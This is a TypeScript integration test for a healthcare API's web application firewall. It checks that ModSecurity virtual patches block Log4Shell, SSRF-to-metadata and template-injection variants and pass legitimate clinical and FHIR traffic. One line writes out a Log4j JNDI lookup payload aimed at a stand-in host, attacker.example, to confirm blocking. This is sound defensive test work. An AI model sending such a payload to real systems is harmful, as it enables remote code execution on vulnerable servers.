/**
 * Integration: the virtual patches production ships (environments/production.yaml,
 * services.waf.virtualPatches) in real nginx + ModSecurity v3 + OWASP CRS on 127.0.0.1.
 *
 * Two instances of the rendered WAF, in front of a tiny node upstream:
 * - `full`: exactly what renderWaf renders for production's patches (positive model, contract,
 *   patches, CRS): every variant in every position is refused;
 * - `patches`: the same files with main.conf including virtual-patches.conf only (no positive
 *   model, contract or CRS): every variant gets 403 from its patch's own rule id, and the
 *   legitimate corpus (French clinical notes, FHIR, browser headers, a 5 MiB document) passes.
 * ModSecurity's audit entries (HTTP) and nginx's error log (syslog over UDP, where the connector
 * writes every intervention with its rule id) are received on a loopback capture standing in for
 * the WAF log relay, to know which rule refused what.
 */

import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evaluate, loadWorkspace } from '../loader/load.ts';
import * as C from '../model/virtualPatches.corpus.ts';
import type { VirtualPatch, VpSignatureName } from '../model/virtualPatches.ts';
import { ensureCert, ensureLabCa } from '../runtime/pki.ts';
import { wafConfigTestCommand, wafProcessSpec } from '../runtime/processes/waf.ts';
import { SIGNATURE_TAG } from '../services/waf/patches.ts';
import { REFERENCE_API_ROUTES, renderWaf, WAF_FILES, type WafRenderInput, wafRuntimePaths } from '../services/waf/render.ts';
import { writeRenderedFiles } from '../testkit/files.ts';
import { request, type TestRequest, type TestResponse } from '../testkit/http.ts';
import { freePorts, waitFor, waitForPort } from '../testkit/net.ts';
import { type RunningProcess, startProcess } from '../testkit/proc.ts';

const run = promisify(execFile);
const ENVIRONMENTS = path.join(import.meta.dirname, '..', '..', 'environments');
const VARIANTS: Record<VpSignatureName, readonly string[]> = {
  log4shell: C.LOG4SHELL_VARIANTS,
  'ssrf-metadata': C.SSRF_VARIANTS,
  'template-injection': C.TEMPLATE_VARIANTS,
};

type Position = 'query-value' | 'query-name' | 'json-value' | 'json-key' | 'header-ua' | 'header-custom' | 'header-referer' | 'cookie-value' | 'cookie-name';
const POSITIONS_OF: Record<string, Position[]> = {
  ARGS: ['query-value', 'json-value'],
  ARGS_NAMES: ['query-name', 'json-key'],
  REQUEST_HEADERS: ['header-ua', 'header-custom', 'header-referer'],
  REQUEST_COOKIES: ['cookie-value'],
  REQUEST_COOKIES_NAMES: ['cookie-name'],
};

/** Header values are bytes: send UTF-8 as such (node refuses characters above U+00FF). */
const bytes = (v: string) => Buffer.from(v, 'utf8').toString('latin1');
const json = (body: unknown) => ({ method: 'POST', path: '/documents', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const DOC = { patientId: 'p-0042', category: 'cr', contentBase64: 'aGVsbG8=' };

/** The request carrying `v` in `pos`, or undefined when the position cannot carry it. */
function placed(pos: Position, v: string): { method?: string; path: string; headers?: Record<string, string>; body?: string } | undefined {
  switch (pos) {
    case 'query-value':
      return { path: `/health?q=${encodeURIComponent(v)}` };
    case 'query-name':
      return { path: `/health?${encodeURIComponent(v)}=1` };
    case 'json-value':
      return json({ title: v, ...DOC });
    case 'json-key':
      return json({ title: 'Compte rendu', [v]: 'x', ...DOC });
    case 'header-ua':
      return { path: '/health', headers: { 'User-Agent': bytes(v) } };
    case 'header-custom':
      return { path: '/health', headers: { 'X-Api-Version': bytes(v) } };
    case 'header-referer':
      return { path: '/health', headers: { Referer: bytes(v) } };
    case 'cookie-value':
      return v.includes(';') ? undefined : { path: '/health', headers: { Cookie: bytes(`sid=${v}`) } };
    case 'cookie-name':
      return /[;=]/.test(v) ? undefined : { path: '/health', headers: { Cookie: bytes(`${v}=1`) } };
  }
}

interface Instance {
  name: string;
  port: number;
  input: WafRenderInput;
  nginx?: RunningProcess;
}

describe('virtual patches (nginx + ModSecurity + CRS), real processes', () => {
  let dir = '';
  let ca = '';
  let patches: VirtualPatch[] = [];
  let upstream: http.Server | undefined;
  let capture: http.Server | undefined;
  let syslog: dgram.Socket | undefined;
  /** Rule ids that refused or flagged each transaction (audit entries and error-log interventions), by correlation id. */
  const audited = new Map<string, string[]>();
  const errorLog: string[] = [];
  const note = (id: string, rules: string[]) => audited.set(id, [...(audited.get(id) ?? []), ...rules]);
  const instances: Instance[] = [];
  let seq = 0;

  beforeAll(async () => {
    const topology = evaluate(loadWorkspace(ENVIRONMENTS)).topologies.get('production');
    patches = topology?.virtualPatches ?? [];
    dir = await mkdtemp(path.join(tmpdir(), 'hds-waf-patches-'));
    await chmod(dir, 0o755); // nginx workers (nobody) spool large bodies under it
    const [upPort, capturePort, fullPort, patchesPort] = (await freePorts(4)) as [number, number, number, number];
    const pki = path.join(dir, 'pki');
    await mkdir(pki, { recursive: true });
    await ensureLabCa(pki);
    const cert = await ensureCert(pki, { name: 'waf-vp', commonName: 'waf-vp', dnsNames: ['localhost'], ipAddresses: ['127.0.0.1'], usage: 'server' });
    ca = await readFile(cert.ca, 'utf8');

    upstream = http.createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.setHeader('content-type', 'application/json');
        res.end('{"status":"ok"}');
      });
    });
    await new Promise<void>((r) => upstream?.listen(upPort, '127.0.0.1', () => r()));
    // Stands in for the WAF log relay: ModSecurity POSTs each audit entry (JSON) here.
    capture = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        try {
          const e = JSON.parse(Buffer.concat(chunks).toString('utf8')) as {
            transaction?: { unique_id?: string; messages?: Array<{ details?: { ruleId?: string } }> };
          };
          const id = e.transaction?.unique_id;
          if (id)
            note(
              id,
              (e.transaction?.messages ?? []).map((m) => m.details?.ruleId ?? ''),
            );
        } catch {
          // not an audit entry
        }
        res.end();
      });
    });
    await new Promise<void>((r) => capture?.listen(capturePort, '127.0.0.1', () => r()));
    syslog = dgram.createSocket('udp4');
    syslog.on('message', (m) => {
      const line = m.toString('utf8');
      errorLog.push(line);
      const id = /\[unique_id "([^"]+)"\]/.exec(line)?.[1];
      const rule = /Access denied.*?\[id "(\d+)"\]/.exec(line)?.[1];
      if (id && rule) note(id, [rule]);
    });
    await new Promise<void>((r) => syslog?.bind(capturePort, '127.0.0.1', () => r()));

    for (const [name, port] of [
      ['full', fullPort],
      ['patches', patchesPort],
    ] as const) {
      const input: WafRenderInput = {
        name: `waf-vp-${name}`,
        confDir: path.join(dir, name, 'conf'),
        runDir: path.join(dir, name, 'run'),
        listen: { address: '127.0.0.1', port },
        tls: { certPath: cert.cert, keyPath: cert.key },
        upstreams: [{ address: '127.0.0.1', port: upPort }],
        routes: REFERENCE_API_ROUTES,
        virtualPatches: patches,
        logRelayPort: capturePort,
        workerProcesses: 2,
      };
      for (const d of wafRuntimePaths(input).dirs) await mkdir(d, { recursive: true });
      await writeRenderedFiles(input.confDir, renderWaf(input));
      if (name === 'patches') {
        // Only the virtual patches: drop every other Include (positive model, contract, CRS).
        const main = path.join(input.confDir, WAF_FILES.modsecMain);
        const text = await readFile(main, 'utf8');
        const kept = text.split('\n').filter((l) => !l.startsWith('Include ') || l.endsWith(WAF_FILES.virtualPatches));
        // What the contract does once it has proved an inert field (test switch: header X-Test-Inert).
        kept.splice(
          kept.length - 1,
          0,
          `SecRule REQUEST_HEADERS:X-Test-Inert "@streq 1" "id:19099,phase:1,pass,nolog,t:none,ctl:ruleRemoveTargetByTag=${SIGNATURE_TAG};ARGS:json.contentBase64"`,
        );
        await writeFile(main, kept.join('\n'));
      }
      const t = wafConfigTestCommand({ name: input.name, confDir: input.confDir, runDir: input.runDir });
      await run(t.command, t.args);
      const inst: Instance = { name, port, input };
      inst.nginx = startProcess(wafProcessSpec({ name: input.name, confDir: input.confDir, runDir: input.runDir }));
      await waitForPort(port, '127.0.0.1', 20_000).catch((e: Error) => {
        throw new Error(`${e.message}\n${inst.nginx?.output()}`);
      });
      instances.push(inst);
    }
  });

  afterAll(async () => {
    for (const i of instances) await i.nginx?.stop();
    for (const s of [upstream, capture]) await new Promise<void>((r) => (s ? s.close(() => r()) : r()));
    syslog?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const instance = (name: string) => instances.find((i) => i.name === name)!;
  async function send(inst: Instance, r: NonNullable<ReturnType<typeof placed>>): Promise<TestResponse & { cid: string }> {
    seq += 1;
    const cid = `vp-${inst.name}-${String(seq).padStart(6, '0')}`;
    const req: TestRequest = {
      url: `https://127.0.0.1:${inst.port}${r.path}`,
      ca,
      method: r.method ?? 'GET',
      headers: { 'X-Correlation-ID': cid, ...(r.headers ?? {}) },
      timeoutMs: 30_000,
      ...(r.body !== undefined ? { body: r.body } : {}),
    };
    return { ...(await request(req)), cid };
  }
  /** Requests in batches of 8. */
  async function sendAll<T>(items: T[], f: (x: T) => Promise<void>): Promise<void> {
    for (let k = 0; k < items.length; k += 8) await Promise.all(items.slice(k, k + 8).map(f));
  }
  const cases = () =>
    patches.flatMap((p) =>
      p.variables
        .flatMap((v) => POSITIONS_OF[v] ?? [])
        .flatMap((pos) => VARIANTS[p.match.signature!].map((v) => ({ patch: p, pos, value: v, req: placed(pos, v) }))),
    );

  it('production ships the Log4Shell and SSRF patches (and template injection), rendered and accepted by nginx -t', () => {
    expect(patches.map((p) => p.match.signature)).toEqual(['log4shell', 'ssrf-metadata', 'template-injection']);
    expect(instances).toHaveLength(2);
  });

  it('patches alone: every variant in every position gets 403 from its patch rule', async () => {
    const inst = instance('patches');
    const misses: string[] = [];
    const sent: Array<{ cid: string; rule: string; what: string }> = [];
    const all = cases().filter((c) => c.req);
    await sendAll(all, async (c) => {
      const r = await send(inst, c.req!);
      const what = `${c.patch.id} ${c.pos} ${JSON.stringify(c.value)}`;
      if (r.status !== 403) misses.push(`${what} -> ${r.status}`);
      else sent.push({ cid: r.cid, rule: String(c.patch.ruleId), what });
    });
    expect(misses).toEqual([]);
    expect(all.length).toBeGreaterThan(400);
    await waitFor('audit entries of the refused requests', async () => sent.every((s) => audited.has(s.cid)), 20_000).catch(() => undefined);
    expect(
      sent.filter((s) => !(audited.get(s.cid) ?? []).includes(s.rule)).map((s) => `${s.what}: rules ${audited.get(s.cid)?.join(',') ?? 'no audit entry'}`),
    ).toEqual([]);
  });

  it('full WAF: every variant in every position is refused', async () => {
    const inst = instance('full');
    const passed: string[] = [];
    await sendAll(
      cases().filter((c) => c.req),
      async (c) => {
        const r = await send(inst, c.req!);
        if (r.status !== 403 && r.status !== 400) passed.push(`${c.patch.id} ${c.pos} ${JSON.stringify(c.value)} -> ${r.status}`);
      },
    );
    expect(passed).toEqual([]);
  });

  /** The legitimate corpus: clinical notes in query and JSON, a FHIR resource, browser and API client headers. */
  const legitimate = () => [
    ...C.NORMAL_HEADERS.map((h) => ({
      what: `headers ${h['User-Agent']}`,
      req: { path: '/health', headers: Object.fromEntries(Object.entries(h).map(([k, v]) => [k, bytes(v)])) },
    })),
    ...C.CLINICAL_NOTES.map((n) => ({ what: `query note ${n}`, req: { path: `/health?note=${encodeURIComponent(n)}` } })),
    ...C.CLINICAL_NOTES.map((n) => ({ what: `JSON note ${n}`, req: json({ title: n.slice(0, 200), ...DOC }) })),
    { what: 'FHIR Observation', req: json(C.FHIR_OBSERVATION) },
    { what: 'document with a FHIR note', req: json({ title: 'Observation SpO2', note: C.FHIR_OBSERVATION.note[0]!.text, ...DOC }) },
  ];

  it('patches alone: the legitimate corpus passes (0 false positives), and a 5 MiB document too', async () => {
    const inst = instance('patches');
    const blocked: string[] = [];
    await sendAll(legitimate(), async (l) => {
      const r = await send(inst, l.req);
      if (r.status !== 200) blocked.push(`${l.what} -> ${r.status}`);
    });
    expect(blocked).toEqual([]);
    const content = randomBytes(5 * 1024 * 1024).toString('base64');
    const t0 = performance.now();
    const big = await send(inst, json({ title: 'Scanner thoracique', ...DOC, contentBase64: content }));
    const ms = performance.now() - t0;
    expect(
      big.status,
      `${big.body.slice(0, 300)}\n${errorLog.filter((l) => l.includes(big.cid) || (!l.includes('ModSecurity') && /\[(?:error|crit|alert)\]/.test(l))).join('\n')}`,
    ).toBe(200);
    console.info(`5 MiB document through the virtual patches alone: ${Math.round(ms)} ms`);
  });

  it('a field the contract proved inert can leave the signature rules (ctl by tag): cheaper, and the other fields stay inspected', async () => {
    const inst = instance('patches');
    const body = json({ title: 'Scanner thoracique', ...DOC, contentBase64: randomBytes(5 * 1024 * 1024).toString('base64') });
    const time = async (headers: Record<string, string>) => {
      const t0 = performance.now();
      const r = await send(inst, { ...body, headers: { ...body.headers, ...headers } });
      expect(r.status).toBe(200);
      return performance.now() - t0;
    };
    const full: number[] = [];
    const excluded: number[] = [];
    for (let k = 0; k < 3; k++) {
      full.push(await time({}));
      excluded.push(await time({ 'X-Test-Inert': '1' }));
    }
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[1]!;
    console.info(`5 MiB document, signatures on every field: ${Math.round(median(full))} ms; base64 field excluded: ${Math.round(median(excluded))} ms`);
    expect(median(excluded)).toBeLessThan(median(full));
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4j lookup, not a JS template
    const attack = json({ title: '${jndi:ldap://attacker.example/a}', ...DOC });
    expect((await send(inst, { ...attack, headers: { ...attack.headers, 'X-Test-Inert': '1' } })).status).toBe(403);
  });

  it('full WAF: no virtual patch fires on the legitimate corpus', async () => {
    const inst = instance('full');
    const results: Array<{ what: string; status: number; cid: string }> = [];
    await sendAll(legitimate(), async (l) => {
      const r = await send(inst, l.req);
      results.push({ what: l.what, status: r.status, cid: r.cid });
    });
    const refused = results.filter((r) => r.status !== 200);
    await waitFor('audit entries of the refused requests', async () => refused.every((r) => audited.has(r.cid)), 10_000).catch(() => undefined);
    const byPatch = refused.filter((r) => (audited.get(r.cid) ?? []).some((id) => /^19\d{3}$/.test(id)));
    expect(byPatch.map((r) => `${r.what}: ${audited.get(r.cid)?.join(',')}`)).toEqual([]);
    // What the rest of the WAF (contract, CRS) refuses is parts A/C's to judge; shown for the record.
    if (refused.length)
      console.info(
        `full WAF refused ${refused.length}/${results.length} legitimate requests (not by a virtual patch): ${refused.map((r) => `${r.what.slice(0, 60)} -> ${r.status} [${audited.get(r.cid)?.join(',') ?? '?'}]`).join('; ')}`,
      );
  });
});
